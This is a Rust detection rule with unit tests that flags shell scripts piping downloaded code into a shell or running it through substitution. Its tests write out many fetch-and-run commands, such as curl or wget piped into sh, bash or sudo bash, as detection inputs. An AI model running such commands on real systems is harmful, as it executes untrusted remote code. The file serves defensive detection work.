//! Vigil rule `download-piped-to-shell`: a shell script that downloads code
//! and runs it without it ever touching the disk (MITRE ATT&CK T1059, T1105):
//! `curl ... | sh`, `wget -O- ... | sudo bash -s --`, `bash <(curl ...)`,
//! `sh -c "$(wget -qO- ...)"`. The script of `sh -c` is split into simple
//! commands at its unquoted control operators; a pipeline alerts when a stage
//! that runs a shell follows a stage that runs a downloader (`curl`, `wget`,
//! `fetch`, `python` with `urllib`). Downloading to a file, or piping a
//! download into anything but a shell, does not alert. A pipeline typed into
//! an interactive shell reaches the kernel as separate execs and is not seen
//! by this rule.

use vigil_sdk::SHELLS;
use vigil_sdk::prelude::*;

const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch"];
/// Programs that skip to the program they run (with their options).
const WRAPPERS: &[&str] = &["sudo", "doas", "env", "exec", "nohup", "command", "time", "busybox"];

/// A shell ran a script downloaded from the network straight from a pipe or substitution.
#[rule(
    id = "download-piped-to-shell",
    subscribe = [ProcessExec],
    tags = ["mitre_execution", "T1059", "mitre_command_and_control", "T1105"]
)]
pub fn detect(event: &Event) -> Option<Alert> {
    let process = event.process()?;
    // `shell_script` answers only for shells.
    let technique = run_download(process.shell_script()?)?;
    let place = match event.container() {
        Some(c) => format!("container={} image={}", c.name(), c.image()),
        None => "container=host".to_string(),
    };
    let what = match technique {
        "pipe" => "Downloaded script piped into a shell",
        _ => "Downloaded script run by a shell through substitution",
    };
    Some(Alert::error(format!("{what} (command={} {place})", process.cmdline())).field("technique", technique))
}

/// How `script` runs a download in a shell: `"pipe"` or `"substitution"`.
fn run_download(script: &str) -> Option<&'static str> {
    if !["curl", "wget", "fetch", "urllib"].iter().any(|d| script.contains(d)) {
        return None;
    }
    let mut downloading = false;
    for (join, command) in commands(script) {
        let Some(name) = program(command) else {
            downloading = false;
            continue;
        };
        let shell = SHELLS.contains(&name);
        if shell && join == Join::Pipe && downloading {
            return Some("pipe");
        }
        if (shell || matches!(name, "source" | "." | "eval")) && substitutes_download(command) {
            return Some("substitution");
        }
        downloading = (join == Join::Pipe && downloading) || downloads(name, command);
    }
    None
}

/// True when `name` (run as `command`) fetches something from the network.
fn downloads(name: &str, command: &str) -> bool {
    DOWNLOADERS.contains(&name) || (name.starts_with("python") && command.contains("urllib"))
}

/// True when `command` has a `<(...)`, `$(...)` or backquoted downloader.
fn substitutes_download(command: &str) -> bool {
    ["<(", "$(", "`"].iter().any(|open| {
        command.match_indices(open).any(|(at, _)| {
            let inner = &command[at + open.len()..];
            program(inner).is_some_and(|name| downloads(name, inner))
        })
    })
}

/// The basename of the program a simple command runs, past wrappers
/// (`sudo -E`, `env -i`, `busybox`...) and `VAR=value` assignments.
fn program(command: &str) -> Option<&str> {
    let mut words = command.split_ascii_whitespace();
    let mut wrapped = false;
    while let Some(word) = words.next() {
        let word = word.trim_matches(|c| "(){}\"'`!".contains(c));
        match word {
            "" => {}
            "-u" | "-g" | "--user" | "--group" if wrapped => {
                words.next();
            }
            w if wrapped && w.starts_with('-') => {}
            w if w.contains('=') => {}
            w => match vigil_sdk::basename(w) {
                name if WRAPPERS.contains(&name) => wrapped = true,
                name => return Some(name),
            },
        }
    }
    None
}

/// How a simple command joins the one before it.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Join {
    /// `|` or `|&`: its input is the previous command's output.
    Pipe,
    /// The start, `;`, `&`, `&&`, `||` or a newline.
    Other,
}

/// Splits a script into simple commands at its unquoted control operators.
fn commands(script: &str) -> impl Iterator<Item = (Join, &str)> {
    let mut rest = Some((Join::Other, script));
    std::iter::from_fn(move || {
        let (join, s) = rest?;
        match next_operator(s) {
            Some((at, len, next)) => {
                rest = Some((next, &s[at + len..]));
                Some((join, &s[..at]))
            }
            None => {
                rest = None;
                Some((join, s))
            }
        }
    })
}

/// The first unquoted control operator in `s`: (offset, length, join).
/// Redirections such as `2>&1`, `&>` and `>|` are not operators.
fn next_operator(s: &str) -> Option<(usize, usize, Join)> {
    let b = s.as_bytes();
    let mut quote = None;
    let mut i = 0;
    while i < b.len() {
        let (c, next) = (b[i], b.get(i + 1).copied());
        let prev = i.checked_sub(1).map(|p| b[p]);
        match quote {
            Some(q) if c == q => quote = None,
            Some(b'"') if c == b'\\' => i += 1,
            Some(_) => {}
            None => match c {
                b'\\' => i += 1,
                b'\'' | b'"' => quote = Some(c),
                b'|' if next == Some(b'|') => return Some((i, 2, Join::Other)),
                b'|' if prev == Some(b'>') => {}
                b'|' => return Some((i, if next == Some(b'&') { 2 } else { 1 }, Join::Pipe)),
                b'&' if next == Some(b'&') => return Some((i, 2, Join::Other)),
                b'&' if matches!(prev, Some(b'>' | b'<')) || next == Some(b'>') => {}
                b'&' | b';' | b'\n' => return Some((i, 1, Join::Other)),
                _ => {}
            },
        }
        i += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use vigil_sdk::testing::{exec, run};

    fn sh(script: &str) -> Vec<Alert> {
        run(detect, [exec("/bin/sh", ["sh", "-c", script])])
    }

    #[test]
    fn downloads_piped_into_a_shell_alert() {
        for script in [
            "curl -fsSL https://get.example.com | sh",
            "curl -s http://10.0.0.1/x.sh|sh",
            "wget -qO- http://x/i.sh | bash",
            "wget -O - http://x/i.sh | sudo bash",
            "curl -sfL https://get.k3s.io | sudo -E sh -s - --disable traefik",
            "curl -L x | env FOO=1 bash -s --",
            "cd /tmp; curl -s x | gunzip | sh 2>&1",
            "fetch -o - http://x/s | /bin/sh",
            "python3 -c 'import urllib.request as u;print(u.urlopen(\"http://x\").read().decode())' | sh",
            "busybox wget -O- http://x/s | busybox sh",
        ] {
            let alerts = sh(script);
            assert_eq!(alerts.len(), 1, "{script}");
            assert_eq!(alerts[0].fields, [("technique".to_string(), "pipe".to_string())], "{script}");
        }
    }

    #[test]
    fn substitutions_alert() {
        for script in [
            "bash <(curl -s https://x/install.sh)",
            "sh <( wget -qO- http://x )",
            "/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/x/install.sh)\"",
            "source <(curl -s http://x/env)",
            "eval `wget -qO- http://x/e`",
        ] {
            let alerts = sh(script);
            assert_eq!(alerts.len(), 1, "{script}");
            assert_eq!(alerts[0].fields[0].1, "substitution", "{script}");
        }
    }

    #[test]
    fn message_names_command_and_place() {
        let alerts = run(detect, [exec("/bin/bash", ["bash", "-c", "curl x | bash"]).container("web", "nginx:1.25")]);
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].priority, Priority::Error);
        assert_eq!(
            alerts[0].message,
            "Downloaded script piped into a shell (command=bash -c curl x | bash container=web image=nginx:1.25)"
        );
        let host = sh("wget -O- x | sh");
        assert!(host[0].message.ends_with("container=host)"), "{}", host[0].message);
    }

    #[test]
    fn other_downloads_and_pipes_do_not_alert() {
        for script in [
            "curl -o /tmp/install.sh https://x/install.sh",
            "curl -s https://x/api | grep version",
            "curl -s https://x/api | python3 -m json.tool",
            "curl -fsS http://localhost/health || sh /restart.sh",
            "curl -s x > /tmp/a && sh /tmp/a.sig",
            "echo 'curl x | sh' > /tmp/readme",
            "echo curl | sh",
            "wget -q http://x/f.tar.gz; tar xzf f.tar.gz | sh",
            "curl -s x 2>&1 >/tmp/o; bash /tmp/other",
            "ls | sh",
        ] {
            assert!(sh(script).is_empty(), "{script}");
        }
        let others = run(
            detect,
            [exec("/usr/bin/curl", ["curl", "https://x | sh"]), exec("/bin/bash", ["bash", "/opt/curl-wget-fetch.sh"])],
        );
        assert!(others.is_empty(), "{others:?}");
    }

    #[test]
    fn tokenizer_splits_at_unquoted_operators_only() {
        let split: Vec<_> = commands("a 2>&1 | b |& c && d || e; f & g >| h\ni 'x|y' \"p;q\" \\| z").collect();
        use Join::*;
        assert_eq!(
            split,
            [
                (Other, "a 2>&1 "),
                (Pipe, " b "),
                (Pipe, " c "),
                (Other, " d "),
                (Other, " e"),
                (Other, " f "),
                (Other, " g >| h"),
                (Other, "i 'x|y' \"p;q\" \\| z"),
            ]
        );
        assert_eq!(program("sudo -u root -E FOO=1 /usr/bin/bash -s"), Some("bash"));
        assert_eq!(program(" (curl"), Some("curl"));
        assert_eq!(program("  "), None);
    }
}
